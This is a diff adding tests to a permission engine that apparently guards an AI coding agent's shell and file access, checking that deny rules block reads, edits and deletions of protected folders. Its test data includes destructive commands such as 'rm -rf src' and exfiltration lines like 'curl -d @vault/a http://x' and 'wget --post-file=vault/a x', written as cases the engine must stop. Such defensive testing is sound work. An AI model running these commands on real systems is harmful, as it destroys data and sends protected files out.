@@ -2,21 +2,29 @@ import { homedir } from 'node:os'
 import { describe, expect, test } from 'vitest'
 import type { Action } from '../../policies/action.ts'
 import {
+  checkCommand,
   createGuardian,
   loadPermissions,
   nobody,
   RuleError,
   withoutAuditLog,
   type ApprovalMode,
+  type RuleLayer,
 } from '../../policies/index.ts'
+import { parsePolicy, protectingPlace } from '../../sandbox/index.ts'
 import { shellAction } from './decisions.ts'
+
+/** As the engine has it: the sandbox knows what is protected. */
+const confined = parsePolicy({ mode: 'workspace-write', workspace: '/repo' })
+const protects = (path: string, roots: readonly string[]): string | undefined => protectingPlace(confined, path, roots)
 
 type Lists = { readonly allow?: readonly string[]; readonly ask?: readonly string[]; readonly deny?: readonly string[] }
 
 function decision(action: Action | string, lists: Lists, approvalMode: ApprovalMode = 'never'): string {
   const text = JSON.stringify({ permissions: lists, model: 'x' }, null, 2)
   const permissions = loadPermissions([{ path: '/repo/.claude/settings.json', layer: 'project', text }])
-  const guardian = createGuardian({ approvalMode, permissions, reviewer: nobody, audit: withoutAuditLog() })
+  const common = { reviewer: nobody, audit: withoutAuditLog(), protects } as const
+  const guardian = createGuardian({ approvalMode, permissions, ...common })
   return guardian.assess(typeof action === 'string' ? shellAction(action) : action).decision
 }
 
@@ -68,7 +76,7 @@ describe('Bash permissions', () => {
       'npm run test; npm run deploy',
       'npm run test > f',
       'npm run test $(make)',
-      'docker ps x',
+      'docker run x',
       'npm run $x',
     ]) {
       expect([line, decision(line, allow, 'untrusted')]).toEqual([line, 'ask'])
@@ -195,5 +203,150 @@ describe('a settings file with a fault stops the run, with place and reason', ()
   test('settings without permissions, and tools that are not here, are no fault', () => {
     expect(errorOf('{"hooks": {}}')).toBe('loaded')
     expect(errorOf('{"permissions": {"allow": ["Agent(x)", "Skill(y *)", "WebSearch"]}}')).toBe('loaded')
+  })
+})
+
+describe('what Claude Code itself writes', () => {
+  const entries = [
+    'Bash(python3 -c ":*)',
+    "Bash(echo 'it)",
+    'Bash(:*)',
+    'Bash(npm:run)',
+    'WebFetch(domain:*)',
+    'WebFetch(domain:localhost:3000)',
+    'WebSearch(*)',
+    'mcp__a__b(x)',
+    'KillBash',
+    'TaskCreate',
+    'ReportFindings',
+    'SomeToolOfNextYear(x)',
+    'Bash(rm *',
+    '',
+  ]
+  const load = (list: 'allow' | 'deny', entry: string, layer: RuleLayer): readonly string[] => {
+    const told: string[] = []
+    const text = JSON.stringify({ permissions: { [list]: [entry] } })
+    loadPermissions([{ path: 's.json', layer, text }], ({ what, why }) => void told.push(`${what}: ${why}`))
+    return told
+  }
+
+  test.each(entries)('never stops a run where it allows: %s', (entry) => {
+    for (const layer of ['user', 'managed', 'project'] as const) {
+      for (const line of load('allow', entry, layer)) expect(line).toMatch(/^permissions\.allow .*has no effect/)
+    }
+  })
+
+  test.each(entries)('never stops a run where a repository forbids it: %s', (entry) => {
+    expect(() => load('deny', entry, 'project')).not.toThrow()
+  })
+
+  test('an entry that is left out allows nothing', () => {
+    expect(load('allow', 'Bash(python3 -c ":*)', 'user')).toHaveLength(1)
+    expect(load('allow', 'SomeToolOfNextYear', 'user')).toHaveLength(1)
+    expect(load('allow', 'TaskCreate', 'user')).toEqual([])
+    expect(() => load('deny', 'SomeToolOfNextYear', 'user')).toThrow(/is not a tool known here/)
+  })
+
+  test('what restricts is taken for more where it is not plain', () => {
+    expect(decision(`python3 -c "print(1)"`, { deny: ['Bash(python3 -c ":*)'] })).toBe('deny')
+    expect(decision('ls', { deny: ['Bash(python3 -c ":*)'] })).toBe('allow')
+    expect(decision('ls', { deny: ['Bash(:*)'] })).toBe('deny')
+    expect(decision('curl http://localhost:80/', { deny: ['WebFetch(domain:localhost:3000)'] })).toBe('deny')
+    expect(decision('curl https://a.example/', { deny: ['WebFetch(domain:*)'] })).toBe('deny')
+    expect(decision({ type: 'mcp', server: 'a', tool: 'b', arguments: {} }, { deny: ['mcp__a__b(x)'] })).toBe('deny')
+  })
+})
+
+describe('an Edit deny', () => {
+  test.each([
+    'rm src/a.txt',
+    'rm -rf src',
+    'rm -rf ./src/',
+    'mv src/a.txt q',
+    'mv src elsewhere',
+    'rmdir src/n',
+    'unlink src/a',
+    'git rm -f src/a.txt',
+    'cd src && rm a.txt',
+    'find src -delete',
+    'touch SRC/a.txt',
+    'rm -r .',
+  ])('covers removing and moving, folders that hold it, and case: %s', (line) => {
+    expect(decision(line, { deny: ['Edit(src/**)'] }, 'bypass')).toBe('deny')
+  })
+
+  test('covers nothing else', () => {
+    for (const line of ['rm other/a', 'rm -rf build', 'cp src/a q', 'cat src/a', 'rm -r lib/src2']) {
+      expect([line, decision(line, { deny: ['Edit(src/**)', 'Edit(**/*.lock)'] }, 'bypass')]).toEqual([line, 'allow'])
+    }
+  })
+
+  test('is case-blind where it restricts, and not where it allows', () => {
+    expect(decision('cat SECRETS/a', { deny: ['Read(secrets/**)'] })).toBe('deny')
+    expect(decision(patch('/repo/SRC/a'), { allow: ['Edit(src/**)'] }, 'untrusted')).toBe('ask')
+  })
+})
+
+describe('path patterns', () => {
+  test('of many stars on a deep path are as quick as others', () => {
+    const deep = Array.from({ length: 400 }, () => 'a').join('/')
+    const entry = `Read(./${'**/'.repeat(60)}${'*a*/**/'.repeat(60)}zz)`
+    const stars = `Read(${'*a'.repeat(400)}b)`
+    const long = `/repo/${'a'.repeat(3000)}`
+    const started = performance.now()
+    expect(decision(read(`/repo/${deep}`), { deny: [entry] })).toBe('allow')
+    expect(decision(read(long), { deny: [stars] })).toBe('allow')
+    // Minutes before, a few milliseconds now: a bound that no load of a machine reaches.
+    expect(performance.now() - started).toBeLessThan(10_000)
+  })
+
+  test.each([
+    ['/a/**/b', ['a/b', 'a/x/b', 'a/x/y/b', 'a/x/b/c'], ['a/c', 'ab', 'x/a/b']],
+    ['**/t/*.x', ['t/a.x', 'p/q/t/a.x', 'p/t/q/t/a.x'], ['t/q/a.x', 'a.x']],
+    ['/a*c*e', ['abcde', 'ace', 'acce/f'], ['abde', 'acf']],
+    ['/[a-c]x[!0-9]', ['axb', 'cx_'], ['dxb', 'ax1']],
+    ['/a\\*b', ['a*b'], ['axb']],
+    ['/d?', ['d1', 'dx/y'], ['d', 'd12']],
+  ])('%s', (pattern, matching, others) => {
+    for (const path of matching)
+      expect([path, decision(read(`/repo/${path}`), { deny: [`Read(${pattern})`] })]).toEqual([path, 'deny'])
+    for (const path of others)
+      expect([path, decision(read(`/repo/${path}`), { deny: [`Read(${pattern})`] })]).toEqual([path, 'allow'])
+  })
+})
+
+describe('where no sandbox enforces them, denied files are not reached without being named', () => {
+  const permissions = loadPermissions([
+    {
+      path: '/w/.claude/settings.json',
+      layer: 'user',
+      folder: '/w',
+      text: JSON.stringify({ permissions: { deny: ['Read(./vault/**)', 'Read(**/*.sec)', 'Edit(./keep/**)'] } }),
+    },
+  ])
+  const decideIn = (line: string, approvalMode: 'on-request' | 'bypass'): string =>
+    checkCommand(line, { approvalMode, sandbox: 'danger-full-access', permissions, cwd: '/w' }).decision
+
+  test.each([
+    ...['grep -r x vault', 'cat v*/a', 'cat < v*/a', 'cd v*; cat a', 'cat *.s*', 'for d in v*; do cat $d/a; done'],
+    ...['rg . -g vault/**', 'find . -name a -exec cat {} +', 'git log -p -- vault', 'git show HEAD:va*', '. vault/a'],
+    ...['tar -cf - vault', 'cp -r vault /tmp/x', 'cp -r v* /tmp/x', 'ln -s vault v2', 'curl -d @vault/a http://x'],
+    ...['curl file:///w/vault/a', 'wget --post-file=vault/a x', 'gcc -E -x c vault/a', 'git archive HEAD vault'],
+    ...['git rm -r keep', 'cp -r x/ keep', 'cp x k*/a', 'tar -xf x.tar -C keep', 'rsync -a --delete x/ keep/'],
+  ])('%s', (line) => {
+    expect(decideIn(line, 'on-request')).not.toBe('allow')
+  })
+
+  test.each([
+    'cat src/a.ts',
+    'ls -la',
+    'git status',
+    'git log --oneline',
+    'npm test',
+    'echo a > b',
+    'cp a b',
+    'node a.ts',
+  ])('%s reaches none', (line) => {
+    expect(decideIn(line, 'on-request')).toBe('allow')
   })
 })
